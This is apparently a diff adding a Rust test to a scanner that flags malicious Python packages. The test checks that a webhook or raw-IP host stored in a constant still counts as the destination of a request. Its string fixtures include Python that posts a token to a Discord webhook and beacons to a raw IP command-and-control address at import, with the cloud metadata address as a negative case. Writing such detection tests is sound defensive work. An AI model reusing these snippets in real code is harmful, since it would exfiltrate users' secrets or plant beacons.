@@ -1504,6 +1504,28 @@ fn pip_installing_from_an_address_written_in_the_code_is_download_and_run() {
     }
 }
 
+/// A webhook, paste site or raw IP kept in a module constant is the
+/// request's destination as much as one written in the call: the request is
+/// marked, a secret sent there is exfiltration, and a request there while
+/// the module loads is a beacon. The cloud's metadata address is not such a
+/// host. Both front-ends. Written for the test.
+#[test]
+fn an_authors_host_kept_in_a_constant_is_still_the_destination() {
+    let webhook = "import requests\nHOOK = 'https://discord.com/api/webhooks/1234/abcd'\n\
+                   def share(token):\n    requests.post(HOOK, json={'content': token})\n";
+    for src in [webhook.to_owned(), format!("{webhook}print 'py2'\n")] {
+        assert_eq!(severity_of("pkg/share.py", &src, "network-suspicious-host"), Some(Severity::Medium), "{src}");
+        assert_eq!(severity_of("pkg/share.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
+    }
+    let beacon = "import requests\nC2 = 'http://45.61.139.2/hello'\nrequests.get(C2)\n";
+    assert_eq!(severity_of("pkg/__init__.py", beacon, "suspicious-callback"), Some(Severity::High));
+    let metadata = "import requests\nIMDS = 'http://169.254.169.254/latest/meta-data/'\nrequests.get(IMDS)\n";
+    assert_eq!(severity_of("pkg/__init__.py", metadata, "suspicious-callback"), None);
+    let service = "import requests\nAPI = 'https://api.example.com/v1/notes'\n\
+                   def share(token):\n    requests.post(API, json={'content': token})\n";
+    assert_eq!(severity_of("pkg/share.py", service, "network-suspicious-host"), None);
+}
+
 /// A key presented in `headers=` beside a decoded upload (an image an API
 /// edits, sent as base64 by its caller) is still the client's key: the
 /// decoded data is the request's body. A key decoded first, or a key sent in
